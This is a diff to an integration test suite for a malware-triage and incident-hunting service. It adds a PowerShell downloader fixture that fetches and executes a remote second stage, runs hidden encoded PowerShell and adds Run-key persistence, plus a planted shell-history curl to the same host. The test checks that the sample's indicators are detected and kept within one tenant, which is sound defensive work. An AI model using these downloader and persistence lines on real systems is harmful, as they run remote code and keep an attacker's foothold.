@@ -48,6 +48,26 @@ def clean_host(root):
     write(root + "/var/log/auth.log", "Nov 26 08:00:01 quiet01 CRON[500]: pam_unix(cron:session): session opened\n")
 
 
+# A PowerShell downloader with Run-key persistence: triaged as critical, its hash and the host it
+# downloads from become the tenant's known-bad indicators.
+DOWNLOADER = (b"$c = New-Object Net.WebClient\n"
+              b"IEX $c.DownloadString('http://cdn-update.kensa-test.jp/stage2.ps1')\n"
+              b"Start-Process powershell -ArgumentList '-nop -w hidden -enc SQBFAFgA'\n"
+              b"Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name upd "
+              b"-Value 'powershell -w hidden -f C:\\Users\\Public\\u.ps1'\n")
+
+
+def downloader_host(root):
+    """A plain host where the downloader was dropped in /tmp and fetched its second stage."""
+    clean_host(root)
+    write(root + "/etc/hostname", "jump01\n")
+    write(root + "/home/bob/.bash_history", "ls -la\ncurl -s http://cdn-update.kensa-test.jp/stage2.ps1 -o /tmp/s2\n")
+    os.makedirs(root + "/tmp", exist_ok=True)
+    with open(root + "/tmp/update.ps1", "wb") as handle:
+        handle.write(DOWNLOADER)
+    os.chmod(root + "/tmp/update.ps1", 0o755)
+
+
 def heavy_host(root):
     """The planted host with a long auth.log, so that its hunt takes long enough to be killed."""
     plant_host(root)
@@ -83,10 +103,10 @@ class Collections(unittest.TestCase):
         self.assertEqual(headers["Location"], "/api/v1/collections/" + collection["id"])
         return collection["id"]
 
-    def wait_done(self, collection_id, timeout=300):
+    def wait_done(self, collection_id, timeout=300, key=None):
         deadline = time.time() + timeout
         while time.time() < deadline:
-            status, answer = self.cluster.get_json("/api/v1/collections/" + collection_id, self.cluster.key_a)
+            status, answer = self.cluster.get_json("/api/v1/collections/" + collection_id, key or self.cluster.key_a)
             self.assertEqual(status, 200, answer)
             if answer["collection"].get("state") in DONE_STATES:
                 return answer
@@ -166,6 +186,40 @@ class Collections(unittest.TestCase):
         self.assertEqual(code, 404)
         status, _ = c.get_json("/api/v1/collections/0123456789abcdef0123456789abcdef", c.key_a)
         self.assertEqual(status, 404)
+
+    def test_a_tenants_malicious_triage_is_swept_for_in_its_own_collections_only(self):
+        c = self.cluster
+        answer = c.submit_ok(c.key_a, "update.ps1", DOWNLOADER)
+        sample_id = answer["submission"]["id"]
+        c.wait_finished(c.key_a, [sample_id])
+        status, triage = c.get_json("/api/v1/submissions/%s/report" % sample_id, c.key_a)
+        self.assertEqual(status, 200)
+        self.assertIn(triage["verdict"]["level"], ("LEVEL_MALICIOUS", "LEVEL_CRITICAL"), triage["verdict"])
+
+        root = os.path.join(self.work, "downloader", "root")
+        downloader_host(root)
+        archive = collect(root, os.path.join(self.work, "downloader", "out"), "CASE-IOC")
+        ours = self.upload("kensa-jump01.tar.gz", archive)
+        self.assertEqual(self.wait_done(ours)["verdict"], "HUNT_VERDICT_COMPROMISED")
+        code, body, _ = self.report(ours)
+        self.assertEqual(code, 200, body)
+        report = json.loads(body)
+        swept = {f["ruleId"]: f for f in report["findings"] if f["source"] == "ioc"}
+        self.assertEqual(set(swept), {"ioc_known_bad_file", "ioc_known_bad_hash_in_listing", "ioc_known_bad_domain"})
+        self.assertEqual(swept["ioc_known_bad_file"]["sourceFile"], "/tmp/update.ps1")
+        self.assertEqual(swept["ioc_known_bad_domain"]["sourceFile"], "/home/bob/.bash_history")
+        origin = "[known bad: triage report %s (update.ps1, " % sample_id
+        self.assertIn(origin, swept["ioc_known_bad_domain"]["evidence"])
+        self.assertGreaterEqual(int(report["stats"]["indicatorsSwept"]), 2)
+
+        # Tenant B uploads the same archive: the hunt is reused, tenant A's indicators are not.
+        theirs = self.upload("kensa-jump01.tar.gz", archive, key=c.key_b)
+        self.wait_done(theirs, key=c.key_b)
+        code, body, _ = self.report(theirs, key=c.key_b)
+        self.assertEqual(code, 200, body)
+        report = json.loads(body)
+        self.assertEqual([f for f in report["findings"] if f["source"] == "ioc"], [])
+        self.assertNotIn("indicatorsSwept", report["stats"])
 
     def test_bad_uploads_get_a_clear_4xx(self):
         c = self.cluster
